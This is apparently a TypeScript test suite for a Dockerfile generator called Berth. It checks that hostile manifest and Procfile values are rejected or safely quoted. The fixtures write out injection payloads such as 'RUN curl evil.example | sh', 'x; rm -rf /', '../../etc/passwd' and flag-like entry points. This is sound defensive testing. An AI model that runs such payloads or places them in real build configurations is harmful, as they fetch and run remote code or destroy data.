import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { BerthError, type BerthManifest } from '@berth/protocol';
import { DEFAULT_BASE_IMAGES } from './base-images.js';
import { planBuild } from './detect.js';
import { dockerfileLines, options, pkg, tree } from './test-support/trees.js';

/** Every line of a generated Dockerfile starts with an instruction Berth writes; nothing else gets in. */
const INSTRUCTION = /^(?:FROM|WORKDIR|COPY|RUN|ENV|EXPOSE|CMD) /;

const rejects = (
  files: Record<string, string>,
  manifest: BerthManifest | null,
  code: string,
  match: RegExp,
) =>
  assert.throws(
    () => planBuild(tree(files), options({ manifest })),
    (e: unknown) => e instanceof BerthError && e.code === code && match.test(e.message),
  );

describe('hostile values', () => {
  test('a main that leaves the source is rejected', () => {
    rejects(
      { 'package.json': pkg({ main: '../../etc/passwd' }) },
      null,
      'BUILD_DETECTION_FAILED',
      /"main" .*no "\.\."/,
    );
  });

  test('a main that reads as a flag is rejected', () => {
    rejects({ 'package.json': pkg({ main: '--inspect=0.0.0.0' }) }, null, 'BUILD_DETECTION_FAILED', /"main"/);
    rejects({ 'package.json': pkg({ main: 'lib/-e' }), 'lib/-e': '' }, null, 'BUILD_DETECTION_FAILED', /"-"/);
  });

  test('a main that is not a string is rejected', () => {
    rejects(
      { 'package.json': pkg({ main: ['a.js'] }) },
      null,
      'BUILD_DETECTION_FAILED',
      /"main" must be a string/,
    );
  });

  test('a start command with a newline is rejected, naming the key', () => {
    const start = 'node a.js\nRUN curl evil.example | sh';
    assert.throws(
      () => planBuild(tree({ 'package.json': pkg({}) }), options({ manifest: { start } })),
      (e: unknown) =>
        e instanceof BerthError && e.code === 'BUILD_MANIFEST_INVALID' && e.issues[0]?.path === 'start',
    );
  });

  test('a build command ending in a backslash cannot join the next instruction', () => {
    const plan = planBuild(
      tree({ 'package.json': pkg({ main: 'a.js' }), 'a.js': '' }),
      options({
        manifest: { build: 'make \\' },
      }),
    );
    const lines = dockerfileLines(plan);
    assert.ok(lines.includes('RUN ["sh","-c","make \\\\"]'), lines.join('\n'));
    assert.ok(lines.every((l) => INSTRUCTION.test(l)));
  });

  test('a heredoc-looking command stays inside its JSON string', () => {
    const plan = planBuild(tree({ 'index.html': '' }), options({ manifest: { start: '<<EOF cat' } }));
    assert.equal(dockerfileLines(plan).at(-1), 'CMD ["sh","-c","<<EOF cat"]');
  });

  test('quotes and $ in a start command are JSON-quoted, not interpreted', () => {
    const start = `node -e "console.log('$PORT')" ; echo ] [`;
    const plan = planBuild(tree({ 'package.json': pkg({}) }), options({ manifest: { start } }));
    const cmd = dockerfileLines(plan).at(-1) ?? '';
    assert.deepEqual(JSON.parse(cmd.slice('CMD '.length)), ['sh', '-c', start]);
  });

  test('a Procfile with an injected line only yields its web: command', () => {
    const procfile = 'web: python app.py\nRUN curl evil.example | sh\nworker: x\n';
    const plan = planBuild(tree({ 'requirements.txt': 'x\n', Procfile: procfile }), options());
    const lines = dockerfileLines(plan);
    assert.equal(lines.at(-1), 'CMD ["sh","-c","python app.py"]');
    assert.ok(lines.every((l) => INSTRUCTION.test(l) && !l.includes('evil')));
  });

  test('a Procfile web: line with a lone carriage return is rejected', () => {
    rejects(
      { 'requirements.txt': 'x\n', Procfile: 'web: python app.py\rRUN curl evil.example | sh\n' },
      null,
      'BUILD_DETECTION_FAILED',
      /Procfile web: command .*one line/,
    );
  });

  test('a base image with shell characters is rejected', () => {
    rejects({ 'index.html': '' }, { base_image: 'busybox\nRUN x' }, 'BUILD_MANIFEST_INVALID', /base_image/);
    assert.throws(
      () =>
        planBuild(
          tree({ 'index.html': '' }),
          options({ baseImages: { ...DEFAULT_BASE_IMAGES, static: 'x; rm -rf /' } }),
        ),
      (e: unknown) => e instanceof BerthError && /static base image/.test(e.message),
    );
  });

  test('a berth.yaml dockerfile outside the source is rejected', () => {
    rejects({ Dockerfile: '' }, { dockerfile: '../Dockerfile' }, 'BUILD_MANIFEST_INVALID', /dockerfile/);
  });

  test('a detection file that was listed but not read is not guessed at', () => {
    const t = { files: new Set(['package.json']), contents: new Map<string, string>() };
    assert.throws(
      () => planBuild(t, options()),
      /package.json is in the source but its contents were not read/,
    );
  });
});
